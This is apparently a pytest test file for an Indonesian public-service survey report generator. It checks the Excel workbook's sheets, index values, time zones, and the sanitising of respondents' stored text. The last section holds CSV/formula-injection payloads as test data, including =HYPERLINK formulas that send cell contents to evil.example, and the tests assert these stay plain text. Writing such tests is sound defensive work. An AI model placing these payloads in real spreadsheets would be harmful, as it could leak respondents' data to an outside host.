"""The report workbook as staff open it in Excel, and respondents' text kept harmless in it."""

from __future__ import annotations

import re
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import docx
import openpyxl
import pytest

from analysis.report import ReportFiles, ReportRequest, build_report, build_workbook
from analysis.report_xlsx import SHEETS
from survey.questionnaire import Questionnaire
from tests.support.analysis_fixtures import SERVICES, SurveyDb, january_2025
from tests.support.documents import cell_types, docx_text, xlsx_cells, xlsx_rows, xlsx_text
from tests.support.report_files import (
    CONVERSION_NOTE,
    LATE_SUGGESTION,
    SUGGESTION,
    UNIT,
    Built,
    built_fixture,  # noqa: F401  (a fixture)
    printed_by,
)

# -- workbook ---------------------------------------------------------------------------------


def test_workbook_has_the_staff_sheets_in_order(built: Built) -> None:
    book = openpyxl.load_workbook(built.default.xlsx, read_only=True)
    try:
        assert book.sheetnames == list(SHEETS)
    finally:
        book.close()
    assert (
        *("Ringkasan", "Per unsur", "Per layanan", "Demografi", "Responden", "Saran"),
        *("Mutu data", "Tindak lanjut"),
    ) == SHEETS


def test_summary_sheet_shows_ipp_3_92_and_its_category(built: Built) -> None:
    rows = xlsx_rows(built.default.xlsx, "Ringkasan")

    ipp = next(r for r in rows if r[0] == "Indeks Persepsi Pelayanan Publik (IPP)")
    ipak = next(r for r in rows if r[0] == "Indeks Persepsi Anti Korupsi (IPAK)")
    assert ipp[1:4] == (3.92, 97.92, "Memuaskan")
    assert ipp[4] == "U3, U4 (3,67)"
    assert ipak[1:4] == (4.0, 100.0, "Bersih dari korupsi")
    assert ("Responden dihitung (orang)", 2) in [r[:2] for r in rows]
    assert ("Isian dihitung (seluruh isian responden)", 3) in [r[:2] for r in rows]
    assert ("Isian di luar kuota", 1) in [r[:2] for r in rows]
    assert ("Periode", "Januari 2025") in [r[:2] for r in rows]


def test_converted_value_is_explained_once_in_the_draft_and_on_the_summary_sheet(
    built: Built,
) -> None:
    # The reference converts the unrounded index (97,92): a reader multiplying the shown 3,92
    # by 25 gets 98,00 and needs to be told why it differs.
    lines = [p.text for p in docx.Document(str(built.default.docx)).paragraphs]
    rows = xlsx_rows(built.default.xlsx, "Ringkasan")
    header = next(r for r in rows if r[0] == "Indeks")
    ipak = next(n for n, r in enumerate(rows) if r[0] == "Indeks Persepsi Anti Korupsi (IPAK)")

    assert lines.count(CONVERSION_NOTE) == 1
    note = lines.index(CONVERSION_NOTE)
    assert "(dari skala 4; nilai konversi*) 97,92)" in lines[note - 1]  # under Tabel 1's IPP
    assert lines.index("Tabel 1. Hasil SPKP Bulan Januari 2025") < note
    assert note < lines.index("b. Indeks Persepsi Anti Korupsi")
    assert [line for line in lines if "nilai konversi*) 100,00)" in line]  # IPAK: same mark
    assert header[2] == "Nilai konversi*)"
    assert rows[ipak + 1][:2] == (CONVERSION_NOTE, None)  # under the index table
    assert [r for r in rows if r[0] == CONVERSION_NOTE] == [rows[ipak + 1]]


def test_month_without_index_has_no_conversion_note(built: Built) -> None:
    text = docx_text(built.empty.docx) + xlsx_text(built.empty.xlsx)

    assert "*)" not in text and "sebelum pembulatan" not in text


def test_item_and_service_sheets(built: Built) -> None:
    items = {r[0]: r for r in xlsx_rows(built.default.xlsx, "Per unsur")}
    services = {r[0]: r for r in xlsx_rows(built.default.xlsx, "Per layanan")}

    assert items["U3"][2:8] == (3.67, 3, 0, 0, 1, 2)
    assert items["P1"][2] == 4.0
    # respondents (persons), counted submissions, beyond quota, then the indices
    assert services["cpob"][2:7] == (2, 2, 0, 3.88, "Memuaskan")
    assert services["cpob_impor"][2:7] == (0, 0, 1, "–", "–")


def test_workbook_numbers_are_numbers_shown_as_the_report_shows_them(built: Built) -> None:
    # Staff sum, sort and chart these cells: text such as '3,67' would defeat all three.
    book = openpyxl.load_workbook(built.default.xlsx)
    try:
        summary = {row[0].value: row for row in book["Ringkasan"].iter_rows()}
        items = {row[0].value: row for row in book["Per unsur"].iter_rows()}
        services = {row[0].value: row for row in book["Per layanan"].iter_rows()}
        genders = {row[0].value: row for row in book["Demografi"].iter_rows()}
    finally:
        book.close()
    ipp = summary["Indeks Persepsi Pelayanan Publik (IPP)"]
    u3 = items["U3"]
    women = genders["Perempuan"]

    # the rounded values the report prints (3,92; 97,92; 3,67), stored as numbers
    assert [(c.value, c.data_type, c.number_format) for c in ipp[1:3]] == [
        (3.92, "n", "0.00"),
        (97.92, "n", "0.00"),
    ]
    lke = summary["IPP"][1]  # (3 + 3.9166…) / 2, November 2024 and January 2025
    assert (lke.value, lke.number_format) == (3.46, "0.00")
    assert (u3[2].value, u3[2].number_format, u3[3].value) == (3.67, "0.00", 3)
    assert (services["cpob"][5].value, services["cpob"][5].number_format) == (3.88, "0.00")
    assert services["cpob"][2].value == 2 and services["cpob"][2].number_format == "General"
    # 1 of the 2 counted respondents (persons): the share, not the text '50,0%'
    assert women[1].value == 1
    assert women[2].value == pytest.approx(1 / 2) and women[2].number_format == "0.0%"
    assert genders["Jumlah responden"][1].value == 2


def test_submission_times_are_the_surveys_clock_time(
    built: Built, questionnaire: Questionnaire, tmp_path: Path
) -> None:
    # Stored 2025-01-10T02:15Z: the CSV export and the respondent's phone said 09:15 WIB.
    rows = xlsx_rows(built.default.xlsx, "Responden")
    assert rows[2][:3] == ("No", "Waktu kirim (WIB)", "Layanan")
    assert rows[3][1] == datetime(2025, 1, 10, 9, 15)

    papua = build_workbook(
        ReportRequest(built.db, "2025-01", questionnaire, SERVICES, 3, zone="Asia/Jayapura"),
        tmp_path / "wit",
    )
    assert xlsx_rows(papua, "Responden")[2][1] == "Waktu kirim (WIT)"
    assert xlsx_rows(papua, "Responden")[3][1] == datetime(2025, 1, 10, 11, 15)

    # Half past midnight in Jakarta is the evening before in UTC: the day shown is Jakarta's.
    survey = SurveyDb(tmp_path / "night.db")
    survey.add("2026-10", "2026-10-02T17:30:03.000000+00:00")
    night = build_workbook(
        ReportRequest(
            survey.path, "2026-10", questionnaire, SERVICES, 30, zone=ZoneInfo("Asia/Jakarta")
        ),
        tmp_path,
    )
    assert xlsx_rows(night, "Responden")[3][1] == datetime(2026, 10, 3, 0, 30, 3)


def test_suggestions_are_listed_with_their_quota_status(built: Built) -> None:
    rows = xlsx_rows(built.default.xlsx, "Saran")

    assert rows[1][-2:] == ("Saran", "Keterangan")
    listed = {r[-2]: r[2] for r in rows[2:]}
    assert listed == {SUGGESTION: "Ya", LATE_SUGGESTION: "Tidak"}
    assert [r[-1] for r in rows[2:]] == [None, None]  # neither a placeholder nor about SPAK


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("default", {}),
        ("personal", {"include_personal": True, "unit_name": UNIT}),
        ("cpob", {"service": "cpob"}),
    ],
)
def test_workbook_alone_is_the_reports_workbook_and_nothing_else(
    built: Built, questionnaire: Questionnaire, tmp_path: Path, name: str, options: Any
) -> None:
    # What /export sends: the report's workbook, without drawing the charts or the draft.
    report: ReportFiles = getattr(built, name)
    out = tmp_path / "out"

    path = build_workbook(
        ReportRequest(built.db, "2025-01", questionnaire, SERVICES, 2, **options), out
    )

    assert list(out.iterdir()) == [path]
    assert path.name == report.xlsx.name
    assert xlsx_cells(path) == xlsx_cells(report.xlsx)


def test_workbook_alone_imports_neither_charts_nor_word(built: Built, tmp_path: Path) -> None:
    script = f"""
import json, sys
from survey.questionnaire import load
from analysis.report import ReportRequest, build_workbook
request = ReportRequest({str(built.db)!r}, "2025-01", load(), {SERVICES!r}, 3)
build_workbook(request, {str(tmp_path)!r})
print(json.dumps(sorted(m for m in sys.modules if m == "analysis.charts"
                        or m.split(".")[0] in ("matplotlib", "docx", "telegram"))))
"""
    assert printed_by(script, timeout=60) == []
    assert [p.name for p in tmp_path.iterdir()] == ["data-spkp-spak-2025-01.xlsx"]


# -- respondents' text (issue 11, points 4 and 5) -------------------------------------------------

# As old rows may hold them: stored before the bot cleaned what respondents type.
CONTROL_NAME = "Bu\x0bdi\x1b[0m Santoso\uffff"
CONTROL_INSTITUTION = "PT\x1b Maju\x0b Jaya\x7f"
CONTROL_SUGGESTION = "Antrian\x00 lebih\x0bcepat\x1b\uffff"
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "institution": "+62 812 3456",
    "suggestion": '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
}
MORE_FORMULAS = ("-Budi", "@SUM(A1)", "\tTab Jaya", "=1+1")


def january_with(folder: Path, name: str, institution: str, suggestion: str) -> SurveyDb:
    """January 2025 in folder/survey.db, and one more submission written with these texts."""
    survey = january_2025(folder / "survey.db")
    identity = {"name": name, "institution": institution}
    survey.add("2025-01", "2025-01-20T03:00:00+00:00", identity=identity, suggestion=suggestion)
    return survey


def test_control_characters_in_stored_text_cannot_break_the_report(
    tmp_path: Path, questionnaire: Questionnaire
) -> None:
    survey = january_with(tmp_path, CONTROL_NAME, CONTROL_INSTITUTION, CONTROL_SUGGESTION)
    files = build_report(
        ReportRequest(survey.path, "2025-01", questionnaire, SERVICES, 5, include_personal=True),
        tmp_path / "out",
    )
    cleaned = ("Bu di[0m Santoso", "PT Maju  Jaya", "Antrian lebih cepat")
    for found in (docx_text(files.docx), xlsx_text(files.xlsx)):
        assert all(text in found for text in cleaned)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", found)
    assert all(path.stat().st_size > 1000 for path in files.charts.values())


def test_respondent_text_that_looks_like_a_formula_stays_plain_text(
    tmp_path: Path, questionnaire: Questionnaire
) -> None:
    survey = january_with(
        tmp_path, FORMULAS["name"], FORMULAS["institution"], FORMULAS["suggestion"]
    )
    for n, text in enumerate(MORE_FORMULAS):
        survey.add(
            "2025-01",
            f"2025-01-2{n + 1}T03:00:00+00:00",
            identity={"name": text, "institution": text},
            suggestion=f"{text} saran",
        )
    path = build_workbook(
        ReportRequest(survey.path, "2025-01", questionnaire, SERVICES, 10, include_personal=True),
        tmp_path,
    )
    cells = cell_types(path)
    expected = [
        ("Responden", FORMULAS["name"]),
        ("Responden", FORMULAS["institution"]),
        ("Saran", FORMULAS["name"]),
        ("Saran", FORMULAS["suggestion"]),
        *(("Responden", text) for text in MORE_FORMULAS),
        *(("Saran", f"{text} saran".strip()) for text in MORE_FORMULAS),
    ]
    assert {key: cells.get(key) for key in expected} == {key: "s" for key in expected}
    assert "f" not in cells.values()
